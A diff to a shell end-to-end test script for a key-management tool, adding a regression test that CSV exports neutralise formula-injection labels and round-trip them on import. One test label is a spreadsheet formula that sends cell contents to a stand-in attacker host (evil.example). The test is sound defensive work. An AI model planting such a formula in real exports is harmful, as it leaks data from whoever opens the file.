@@ -68,4 +68,35 @@ printf 'public_key,state\n%s,lapsed\n' "$(python3 -c 'import os; print(os.urando
 api key import "$W/bad.csv" >"$W/bad.json" 2>&1 && fail "a bad state was imported"
 grep -q "state" "$W/bad.json" || fail "the refusal does not name the state: $(cat "$W/bad.json")"
 ok "an unknown state is refused with its line"
+# CSV injection: labels chosen by whoever enrols or imports a key run as
+# formulas when an auditor opens `keysup key export` in a spreadsheet. Each
+# such cell now starts with an apostrophe, and importing the export gives
+# the labels back exactly.
+python3 - "$W" <<'PY'
+import json, os, sys
+w = sys.argv[1]
+labels = ['=HYPERLINK("http://evil.example/?"&A1,"open")', "+1+1", "-2", "@SUM(A1)", "'=quoted", "ok label"]
+with open(f"{w}/formula.jsonl", "w") as f:
+    for l in labels:
+        f.write(json.dumps({"public_key": os.urandom(32).hex(), "label": l, "scope": 5}) + "\n")
+PY
+api key import "$W/formula.jsonl" >"$W/formula.json" || fail "import formula labels: $(cat "$W/formula.json")"
+api key export -o "$W/formula_out.csv" >/dev/null || fail "export"
+python3 - "$W/formula_out.csv" <<'PY' || fail "a formula cell in the export"
+import csv, sys
+for row in csv.reader(open(sys.argv[1], newline="")):
+    for cell in row:
+        if cell[:1] in ("=", "+", "-", "@", "\t", "\r"):
+            sys.exit(f"cell {cell!r} starts a formula")
+PY
+# The export read back into the same supervisor: a no-op, so every label
+# came back exactly as entered (an apostrophe left on would be a change).
+api key import "$W/formula_out.csv" >"$W/formula2.json" || fail "re-import: $(cat "$W/formula2.json")"
+n=$(($(wc -l <"$W/formula_out.csv") - 1))
+[ "$(j "$W/formula2.json" 'd["imported"], d["unchanged"]')" = "(0, $n)" ] \
+    || fail "the export read back changed labels: $(cat "$W/formula2.json")"
+api key export --format jsonl -o "$W/formula2.jsonl" >/dev/null || fail "export jsonl"
+grep -qF '"label":"=HYPERLINK(' "$W/formula2.jsonl" && grep -qF "\"label\":\"'=quoted\"" "$W/formula2.jsonl" \
+    || fail "labels not as entered: $(grep -i label "$W/formula2.jsonl" | head -3)"
+ok "formula labels leave the CSV export as text ('=...), and come back exact on import"
 echo "attack_import_e2e: all $steps steps passed"
